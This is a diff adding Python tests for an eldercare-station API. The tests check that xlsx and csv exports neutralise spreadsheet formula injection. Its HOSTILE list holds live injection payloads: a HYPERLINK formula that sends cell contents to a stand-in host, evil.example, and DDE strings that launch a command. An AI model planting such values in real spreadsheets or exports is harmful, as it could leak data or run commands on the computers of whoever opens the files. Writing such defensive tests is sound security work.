@@ -1,9 +1,17 @@
 import csv
 import io
+import zipfile
 from collections.abc import Callable
+from typing import Any
 
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
+from sqlalchemy import Engine
+
+from cloud.api.assessment import Sheet
+from cloud.api.sheets import FORMULA_STARTS, to_csv, to_xlsx
+from cloud.registry.csv_rows import parse_station_csv
+from cloud.registry.store import upsert_stations
 
 V1 = "/api/v1"
 
@@ -82,3 +90,75 @@ def test_exports_respect_scope(fleet_as: Callable[[str], TestClient]) -> None:
     ]
     for user, path, code in cases:
         assert fleet_as(user).get(V1 + path).status_code == code, (user, path)
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/x?"&A1,"点击查看")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def _import_hostile_station(engine: Engine) -> None:
+    """hl-01 renamed by the bureau's CSV, as `eldercare cloud stations import` reads it."""
+    text = ("station_id,name,town,grade,weekdays,hours\n"
+            f'hl-01,"{HOSTILE[0].replace(chr(34), chr(34) * 2)}",{HOSTILE[3]},3A,1-5,08:30-11:30 13:30-17:00\n')
+    records, problems = parse_station_csv(text)
+    assert problems == [] and records[0].name == HOSTILE[0] and records[0].town == HOSTILE[3]
+    upsert_stations(engine, records)
+
+
+def _cells(content: bytes) -> list[Any]:
+    workbook = load_workbook(io.BytesIO(content))
+    return [cell for row in workbook.active.iter_rows() for cell in row if cell.value is not None]
+
+
+def _assert_no_formula(cells: list[Any]) -> None:
+    for cell in cells:
+        assert cell.data_type != "f", (cell.coordinate, cell.value)
+        if isinstance(cell.value, str):
+            assert not cell.value.startswith(FORMULA_STARTS), (cell.coordinate, cell.value)
+
+
+def test_names_towns_and_themes_never_become_formulas(fleet_engine: Engine,
+                                                      fleet_as: Callable[[str], TestClient]) -> None:
+    _import_hostile_station(fleet_engine)
+    staff = fleet_as("staff-hl1")
+    for i, theme in enumerate(HOSTILE):
+        body = {"station": "hl-01", "day": f"2026-10-{i + 1:02d}", "theme": theme, "participants": 10 + i}
+        assert staff.post(f"{V1}/activities", json=body).status_code == 201
+    monthly = staff.get(f"{V1}/exports/stations/hl-01/monthly/2026-10?format=xlsx")
+    assessment = fleet_as("admin").get(f"{V1}/exports/stations/hl-01/assessment/2026?format=xlsx")
+    for response in (monthly, assessment):
+        assert response.status_code == 200
+        assert b"<f>" not in zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
+        _assert_no_formula(_cells(response.content))
+    texts = {c.value for c in _cells(monthly.content) if isinstance(c.value, str)}
+    # Still readable: each hostile text is there, as text, behind the apostrophe that marks it as text (XML reads a
+    # carriage return back as a line feed).
+    assert {"'" + theme.replace("\r", "\n") for theme in HOSTILE} <= texts
+    assert "'" + HOSTILE[0] + " 2026-10 月度运营报告" in texts and "'" + HOSTILE[3] in texts
+    monthly_rows = sheet_rows(monthly.content)
+    participants = [next(v for v in r[3:] if v is not None) for r in monthly_rows if r[1] == "主题活动"]
+    assert participants == [10, 11, 12, 13, 14, 15]  # numbers stay numbers
+    assert f"'{HOSTILE[0]}（hl-01）" in {c.value for c in _cells(assessment.content)}
+
+    for path in ("/exports/stations/hl-01/monthly/2026-10?format=csv",
+                 "/exports/stations/hl-01/assessment/2026?format=csv"):
+        response = fleet_as("admin").get(V1 + path)
+        assert response.status_code == 200
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+        fields = [field for row in rows for field in row]
+        assert not [f for f in fields if f.startswith(FORMULA_STARTS)], path
+        assert any(f.startswith("'=HYPERLINK(") for f in fields)
+
+
+def test_negative_numbers_stay_numbers_and_only_text_is_neutralised() -> None:
+    facts: list[Any] = [("-key", -3)]  # a number where facts usually hold text
+    sheet = Sheet(title="=title", facts=facts, header=("@h", "ok"),
+                  rows=[(-5, -0.25, "-5", "\t=1", "合规 -1", None, 0)])
+    cells = {c.coordinate: c for c in _cells(to_xlsx(sheet))}
+    assert cells["A1"].value == "'=title" and cells["A2"].value == "'-key"
+    assert (cells["B2"].value, cells["B2"].data_type) == (-3, "n")
+    assert [cells[k].value for k in ("A5", "B5", "C5", "D5", "E5", "G5")] == [-5, -0.25, "'-5", "'\t=1", "合规 -1", 0]
+    assert cells["A5"].data_type == cells["B5"].data_type == "n"
+    rows = list(csv.reader(io.StringIO(to_csv(sheet).decode("utf-8-sig"), newline="")))
+    assert rows[-1] == ["-5", "-0.25", "'-5", "'\t=1", "合规 -1", "", "0"]
+    assert rows[1] == ["'-key", "-3"]
